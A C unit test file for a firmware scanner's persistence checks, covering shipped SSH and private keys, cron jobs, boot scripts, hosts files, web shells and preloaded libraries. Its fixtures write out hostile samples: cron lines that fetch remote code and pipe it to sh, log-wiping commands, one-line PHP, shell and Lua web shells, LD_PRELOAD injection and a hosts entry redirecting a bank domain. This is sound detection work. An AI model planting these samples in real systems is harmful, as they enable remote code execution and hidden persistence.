/* SPDX-License-Identifier: Apache-2.0 */
/* By what an intruder stays without a program of his own at boot: keys, timed jobs, libraries before all others. */
#include "volume.h"

#define KEY "AAAAB3NzaC1yc2EAAAADAQABAAABAQC7laboratorylaboratorylaboratory owner@laboratory\n"
#define BASE64 "MIICXAIBAAKBgQDlaboratorylaboratorylaboratorylaboratorylaboratory\nlaboratorylaboratory\n"

typedef struct row {
	const char *path, *text, *id; /* NULL: no finding */
	gh_level level;
	uint32_t line;
} row;

static void check_rows(const gh_check *check, const row *rows, size_t n)
{
	for (size_t i = 0; i < n; i++) {
		gh_ctx ctx = gh_test_ctx();
		const file files[] = { TEXT(rows[i].path, rows[i].text), TEXT("lib/libx.so", "\x7f"
											     "ELF") };
		gh_findings found = conclude_on(&ctx, check, files, GH_COUNT(files), NULL);
		EQ(found.count, rows[i].id ? 1 : 0, rows[i].text);
		if (rows[i].id) {
			SAME(gh_view_text(found.first->id), gh_view_text(rows[i].id), rows[i].text);
			EQ(found.first->level, rows[i].level, rows[i].text);
			EQ(found.first->evidence[0].line, rows[i].line, rows[i].text);
		}
		gh_test_done(&ctx);
	}
}

static void keys_are_told(void **state)
{
	(void)state;
	static const row rows[] = {
		{ "root/.ssh/authorized_keys", "# mine\nssh-rsa " KEY, "KEYS-SHIPPED/authorized-keys",
		  GH_LEVEL_SUSPICIOUS, 2 },
		{ "etc/dropbear/authorized_keys", "command=\"x\" ssh-rsa " KEY, "KEYS-SHIPPED/authorized-keys",
		  GH_LEVEL_SUSPICIOUS, 1 },
		{ "etc/dropbear/authorized_keys",
		  "# put your keys here, one a line, as ssh-keygen writes them: ssh-rsa AAAA\n", NULL, GH_LEVEL_INFO,
		  0 },
		{ "etc/server.pem", "-----BEGIN RSA PRIVATE KEY-----\n" BASE64 "-----END RSA PRIVATE KEY-----\n",
		  "KEYS-SHIPPED/private-key", GH_LEVEL_NOTICE, 0 },
		{ "etc/ssh/ssh_host_rsa_key", "-----BEGIN OPENSSH PRIVATE KEY-----\n" BASE64 "-----END",
		  "KEYS-SHIPPED/host-key", GH_LEVEL_NOTICE, 0 },
		{ "etc/server.pem", "-----BEGIN ENCRYPTED PRIVATE KEY-----\n" BASE64 "-----END",
		  "KEYS-SHIPPED/locked-key", GH_LEVEL_INFO, 0 },
		{ "www/import.html",
		  "<p>Paste between -----BEGIN RSA PRIVATE KEY----- and -----END RSA PRIVATE KEY-----, please", NULL,
		  GH_LEVEL_INFO, 0 },
		{ "etc/ca.pem", "-----BEGIN CERTIFICATE-----\n" BASE64 "-----END CERTIFICATE-----\n", NULL,
		  GH_LEVEL_INFO, 0 },
	};
	check_rows(&gh_check_keys_shipped, rows, GH_COUNT(rows));
}

static void many_keys_are_one_finding(void **state)
{
	(void)state;
	static const char pem[] = "-----BEGIN RSA PRIVATE KEY-----\n" BASE64 "-----END RSA PRIVATE KEY-----\n";
	static const file files[] = { TEXT("a.pem", pem), TEXT("b.pem", pem), TEXT("c.pem", pem) };
	gh_ctx ctx = gh_test_ctx();
	gh_findings found = conclude_on(&ctx, &gh_check_keys_shipped, files, GH_COUNT(files), NULL);
	EQ(found.count, 1, "one finding");
	EQ(found.first->n_evidence, 3, "three places");
	for (size_t i = 0; i < 3; i++)
		TRUE(found.first->evidence[i].excerpt.len < 32, "the key itself is not in the report");
	gh_test_done(&ctx);
}

static void timed_jobs_are_read(void **state)
{
	(void)state;
	static const row rows[] = {
		{ "etc/crontabs/root", "# x\n*/5 * * * * wget -qO- http://192.0.2.1/a | sh\n", "CRON-ODD/fetches",
		  GH_LEVEL_SUSPICIOUS, 2 },
		{ "etc/crontabs/root", "0 * * * * cd /tmp; /usr/bin/tftp -g -r a 192.0.2.1; chmod +x a; ./a\n",
		  "CRON-ODD/fetches", GH_LEVEL_SUSPICIOUS, 1 },
		{ "var/spool/cron/crontabs/root", "@reboot /tmp/.a\n", "CRON-ODD/hidden", GH_LEVEL_NOTICE, 1 },
		{ "etc/cron.d/x", "1 2 3 4 5 /bin/.x -d\n", "CRON-ODD/hidden", GH_LEVEL_NOTICE, 1 },
		{ "etc/crontabs/root",
		  "0 3 * * * /usr/sbin/ntpclient -s\n0 4 * * * wget -O /tmp/list http://192.0.2.1/l\n", NULL,
		  GH_LEVEL_INFO, 0 },
		{ "etc/crontabs/root",
		  "0 4 * * * wget -O /etc/hosts http://192.0.2.1/h && /etc/init.d/dnsmasq restart\n", NULL,
		  GH_LEVEL_INFO, 0 },
		{ "etc/crontabs/root", "#0 3 * * * wget -O- x | sh\n", NULL, GH_LEVEL_INFO, 0 },
		{ "etc/init.d/cron", "wget x | sh\n", NULL, GH_LEVEL_INFO, 0 },
	};
	check_rows(&gh_check_cron_odd, rows, GH_COUNT(rows));
}

static void lines_of_start_scripts_are_read(void **state)
{
	(void)state;
	static const row rows[] = {
		{ "etc/rc.d/rcS", "#!/bin/sh\nrm -rf /var/log/*; ln -sf /dev/null /var/log/messages\n",
		  "BOOT-TAIL/tracks", GH_LEVEL_NOTICE, 2 },
		{ "etc/rc.d/rcS", "#!/bin/sh\nln -s /tmp/log /var/log\nln -s /dev/null /dev/x\n", NULL, GH_LEVEL_INFO,
		  0 },
		{ "etc/rc.d/rcS", "#!/bin/sh\niptables -I INPUT -p tcp --dport 14444 -j ACCEPT\n", "BOOT-TAIL/port",
		  GH_LEVEL_NOTICE, 2 },
		{ "etc/rc.d/rcS",
		  "#!/bin/sh\niptables -A INPUT -p tcp --dport 80 -j ACCEPT\niptables -A INPUT -p udp --dport $p -j "
		  "ACCEPT\niptables -A FORWARD -p tcp --dport 14444 -j ACCEPT\niptables -I INPUT -p tcp --dport 14444 "
		  "-j DROP\n",
		  NULL, GH_LEVEL_INFO, 0 },
		{ "usr/share/x.sh", "#!/bin/sh\nln -sf /dev/null /var/log/messages\n", NULL, GH_LEVEL_INFO, 0 },
	};
	check_rows(&gh_check_boot_tail, rows, GH_COUNT(rows));
}

static void names_that_lead_to_strangers_are_told(void **state)
{
	(void)state;
	static const row rows[] = {
		{ "etc/hosts", "127.0.0.1 localhost\n203.0.113.66 www.bank.example login.bank.example\n",
		  "HOSTS-ODD/stranger", GH_LEVEL_NOTICE, 2 },
		{ "rom/etc/hosts", "8.8.8.8\tdns.example.com", "HOSTS-ODD/stranger", GH_LEVEL_NOTICE, 1 },
		{ "etc/hosts",
		  "127.0.0.1 localhost.localdomain\n192.168.1.1 tplinkwifi.net\n10.0.0.1 a.b.c\n172.16.0.1 a.com\n"
		  "100.64.0.1 a.com\n169.254.0.1 a.com\n224.0.0.1 all.mcast.net\n0.0.0.0 ads.example.com\n",
		  NULL, GH_LEVEL_INFO, 0 },
		{ "etc/hosts",
		  "8.8.8.8 router.lan\n8.8.8.8 box\n8.8.8.8 .x\n8.8.8 a.com\n8.8.8.8.8 a.com\n256.1.1.1 a.com\n"
		  "8.8.8.999 a.com\n::1 a.com\n# 8.8.8.8 a.com\n8.8.8.8\n",
		  NULL, GH_LEVEL_INFO, 0 },
	};
	check_rows(&gh_check_hosts_odd, rows, GH_COUNT(rows));
}

static void pages_that_run_what_they_are_sent_are_told(void **state)
{
	(void)state;
	static const char id[] = "WEB-SHELL/runs-request";
	static const row rows[] = {
		{ "www/cgi-bin/dbg.sh", "#!/bin/sh\necho\neval \"$QUERY_STRING\"\n", id, GH_LEVEL_NOTICE, 3 },
		{ "www/cgi-bin/dbg.sh", "#!/bin/sh\nsh -c \"$QUERY_STRING\"\n", id, GH_LEVEL_NOTICE, 2 },
		{ "htdocs/x.php", "<?php system($_GET['c']); ?>", id, GH_LEVEL_NOTICE, 1 },
		{ "htdocs/x.php", "<?php @eval( $_POST[1]); ?>", id, GH_LEVEL_NOTICE, 1 },
		{ "www/x.lua", "os.execute(luci.http.formvalue(\"c\"))", id, GH_LEVEL_NOTICE, 1 },
		{ "htdocs/x.php", "<?php system(escapeshellarg($_GET['c'])); system('ls'); ?>", NULL, GH_LEVEL_INFO,
		  0 },
		{ "www/cgi-bin/x.sh",
		  "#!/bin/sh\n# eval \"$QUERY_STRING\"\nid=$(echo \"$QUERY_STRING\" | cut -d= -f2)\n", NULL,
		  GH_LEVEL_INFO, 0 },
		{ "www/x.js", "var a = eval(text); file_system($x);", NULL, GH_LEVEL_INFO, 0 },
		{ "usr/bin/x.sh", "#!/bin/sh\neval \"$QUERY_STRING\"\n", NULL, GH_LEVEL_INFO, 0 },
	};
	check_rows(&gh_check_web_shell, rows, GH_COUNT(rows));
}

static void libraries_before_all_others_are_told(void **state)
{
	(void)state;
	static const row rows[] = {
		{ "etc/ld.so.preload", "\n/lib/libx.so\n", "PRELOAD/list", GH_LEVEL_NOTICE, 2 },
		{ "etc/ld.so.preload", "# nothing\n", NULL, GH_LEVEL_INFO, 0 },
		{ "etc/init.d/rcS", "#!/bin/sh\nexport LD_PRELOAD=\"/tmp/libx.so\"\n", "PRELOAD/script",
		  GH_LEVEL_NOTICE, 2 },
		{ "etc/init.d/rcS", "#!/bin/sh\nLD_PRELOAD=/lib/libx.so /bin/nvram\n", "PRELOAD/script", GH_LEVEL_INFO,
		  2 },
		{ "etc/init.d/rcS", "#!/bin/sh\n# LD_PRELOAD=/tmp/x\nLD_PRELOAD=$a b\n", NULL, GH_LEVEL_INFO, 0 },
	};
	check_rows(&gh_check_preload, rows, GH_COUNT(rows));
	gh_ctx ctx = gh_test_ctx();
	gh_signals signs = { 0 };
	static const file files[] = { TEXT("etc/ld.so.preload", "/lib/libx.so\n"), TEXT("lib/libx.so", "\x7f"
												       "ELF") };
	gh_findings found = conclude_with_signs(&ctx, &gh_check_preload, files, GH_COUNT(files), &signs);
	EQ(found.first->level, GH_LEVEL_SUSPICIOUS, "a library that nothing else knows");
	EQ(signs.count, 2, "the library gets a sign, and one for being alone");
	EQ(signs.last->witness, GH_WITNESS_START, "nothing else knows it");
	SAME(signs.first->about, GH_LIT("lib/libx.so"), "the library");
	gh_test_done(&ctx);
}

int main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(keys_are_told),
		cmocka_unit_test(many_keys_are_one_finding),
		cmocka_unit_test(timed_jobs_are_read),
		cmocka_unit_test(lines_of_start_scripts_are_read),
		cmocka_unit_test(names_that_lead_to_strangers_are_told),
		cmocka_unit_test(pages_that_run_what_they_are_sent_are_told),
		cmocka_unit_test(libraries_before_all_others_are_told),
	};
	return cmocka_run_group_tests(tests, NULL, NULL);
}
